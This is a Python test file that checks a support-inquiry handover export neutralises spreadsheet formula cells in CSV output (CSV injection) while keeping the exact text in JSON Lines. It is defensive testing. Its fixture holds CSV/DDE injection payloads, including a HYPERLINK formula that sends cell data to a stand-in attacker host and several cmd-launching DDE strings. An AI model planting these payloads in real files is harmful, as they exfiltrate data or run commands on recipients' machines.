"""The handover's CSV files are for Excel: no cell may run as a formula there (OWASP "CSV
injection"), while the JSON Lines beside them keep the text exactly as it was saved."""

from __future__ import annotations

import csv
import io
import json
import tarfile

from supportline.extensions import db
from supportline.handover import service

HOSTILE = {
    "summary": '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")',
    "advice": "+1+cmd|' /C calc'!A0",
    "caller_role": "@SUM(1+1)*cmd|' /C calc'!A0",
    "caller_organisation": "-2+3+cmd|' /C calc'!A0",
}


def test_formula_cells_are_neutralised_in_the_csv_and_exact_in_the_jsonl(app, tmp_path, handler, make_inquiry):
    from supportline.inquiries.service import add_entry

    inquiry_id = make_inquiry(handler, status="open", **HOSTILE)
    with app.app_context():
        add_entry(db.session.get(type(handler), handler.id), inquiry_id, "contact", "@kollega ring tillbaka")
        add_entry(db.session.get(type(handler), handler.id), inquiry_id, "note", "=1+1")
        batch = service.export(kind="full", out_dir=tmp_path, recipient=None, plaintext=True)
    with tarfile.open(tmp_path / batch.file_name) as tar:
        files = {m.name: tar.extractfile(m).read() for m in tar.getmembers()}
    rows = list(csv.DictReader(io.StringIO(files["inquiries.csv"].decode("utf-8-sig")), delimiter=";"))
    cells = [value for row in rows for value in row.values()]
    contacts = list(csv.reader(io.StringIO(files["contacts.csv"].decode("utf-8-sig")), delimiter=";"))
    cells += [value for row in contacts for value in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for text in HOSTILE.values():
        assert "'" + text in cells
    assert "'=1+1" in cells and "'@kollega ring tillbaka" in cells
    record = json.loads(files["inquiries.jsonl"].splitlines()[0])
    assert {name: record[name] for name in HOSTILE} == HOSTILE
    assert {e["text"] for e in record["timeline"] if e.get("text")} >= {"=1+1", "@kollega ring tillbaka"}
